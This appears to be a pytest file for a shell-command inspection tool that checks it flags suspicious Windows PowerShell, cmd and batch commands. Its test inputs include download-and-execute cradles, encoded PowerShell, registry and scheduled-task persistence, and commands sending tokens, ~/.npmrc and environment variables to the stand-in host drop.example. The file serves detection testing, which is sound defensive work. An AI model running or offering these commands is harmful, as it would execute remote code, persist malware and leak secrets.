"""Commands of Windows: PowerShell, `cmd`, and batch files."""

from __future__ import annotations

import base64

import pytest

from tests.worker.inspection.facts.told import of_shell, told
from worker.inspection.facts.shell import extract_command


def _encoded(code: str) -> str:
    return base64.b64encode(code.encode("utf-16-le")).decode()


@pytest.mark.parametrize(
    "command",
    [
        pytest.param('powershell -c "iwr https://drop.example/x.ps1 | iex"', id="an alias"),
        pytest.param(
            "powershell.exe -NoP -W Hidden -Command \"IEX (New-Object Net.WebClient).DownloadString('https://drop.example')\"",
            id="a client",
        ),
        pytest.param(f"powershell -enc {_encoded('iex (irm https://drop.example)')}", id="encoded"),
        pytest.param(f"pwsh -EncodedCommand {_encoded('iwr https://drop.example|iex')}", id="encoded, in full"),
        pytest.param('powershell -c "$x = irm https://drop.example; iex $x"', id="through a variable"),
        pytest.param('cmd /c powershell -c "iwr https://drop.example | iex"', id="from another shell"),
    ],
)
def test_a_download_that_powershell_runs(command: str) -> None:
    found = told(extract_command(command))
    assert any("dynamic-code Invoke-Expression" in line and "<- download 1" in line for line in found), found
    assert any("network" in line and "-> drop.example" in line for line in found)


def test_an_encoded_command_is_told_to_be_decoded() -> None:
    assert told(extract_command(f"powershell -e {_encoded('echo x')}")) == [
        "1 decode -EncodedCommand",
        "1 process powershell <- decoded 1 -EncodedCommand",
    ]


@pytest.mark.parametrize(
    ("command", "fact"),
    [
        pytest.param(
            "powershell iwr https://drop.example/a.exe -OutFile a.exe; Start-Process a.exe",
            "1 process a -> drop.example <- download 1 iwr",
            id="written and started",
        ),
        pytest.param(
            "certutil -urlcache -split -f https://drop.example/a.exe a.exe && a.exe",
            "1 process a -> drop.example <- download 1 certutil",
            id="by certutil",
        ),
        pytest.param(
            "mshta https://drop.example/a.hta",
            "1 process mshta -> drop.example <- download 1 mshta",
            id="as a page that runs",
        ),
        pytest.param(
            "curl -o %TEMP%\\a.exe https://drop.example/a & start /b %TEMP%\\a.exe",
            "1 process a -> drop.example <- download 1 curl",
            id="in the folder for temporary files",
        ),
        pytest.param(
            "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d x.exe",
            "1 file-write HKCU/Software/Microsoft/Windows/CurrentVersion/Run",
            id="the registry",
        ),
        pytest.param("schtasks /create /tn x /tr x.exe", "1 file-write schtasks", id="a task"),
        pytest.param(
            "curl -d %NPM_TOKEN% https://drop.example",
            "1 network curl -> drop.example <- environment 1 NPM_TOKEN",
            id="a variable",
        ),
    ],
)
def test_other_commands(command: str, fact: str) -> None:
    assert fact in told(extract_command(command))


def test_a_powershell_script_is_read_statement_by_statement() -> None:
    source = """
    # iwr https://comment.example | iex
    $url = "https://drop.example/a.exe"
    $path = "$env:TEMP\\a.exe"
    (New-Object System.Net.WebClient).DownloadFile($url, $path)
    Start-Process $path
    $token = Get-Content "$HOME\\.npmrc"
    Invoke-RestMethod -Uri https://drop.example -Method Post -Body $token
    Set-ItemProperty -Path HKCU:\\Software\\Run -Name x -Value x.exe
    i`ex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($blob)))
    Get-ChildItem env: | Out-String | irm https://drop.example -Method Post
    """
    found = told(of_shell(source, "tools/install.ps1"))
    for line in (
        "5 process powershell -> drop.example <- download 4 downloadfile",
        "6 credential-file ~/.npmrc",
        "7 network invoke-restmethod -> drop.example <- credential-file 6 ~/.npmrc",
        "9 dynamic-code Invoke-Expression <- decoded 9 frombase64string",
        "10 network irm -> drop.example <- environment 10 *",
        "10 environment *",
    ):
        assert line in found, found
    assert not any("comment.example" in line for line in found)


def test_a_batch_file_is_read() -> None:
    source = """
    @echo off
    REM curl https://comment.example | sh
    set URL=https://drop.example/a.exe
    curl -o a.exe ^
      https://drop.example/a.exe
    a.exe
    node "%~dp0\\lib\\x.js"
    """
    found = of_shell(source, "tools/install.bat")
    assert told(found) == [
        "4 network curl -> drop.example",
        "4 file-write a.exe <- download 4 curl",
        "6 process a -> drop.example <- download 4 curl",
    ]
    assert "tools/lib/x.js" in found.runs
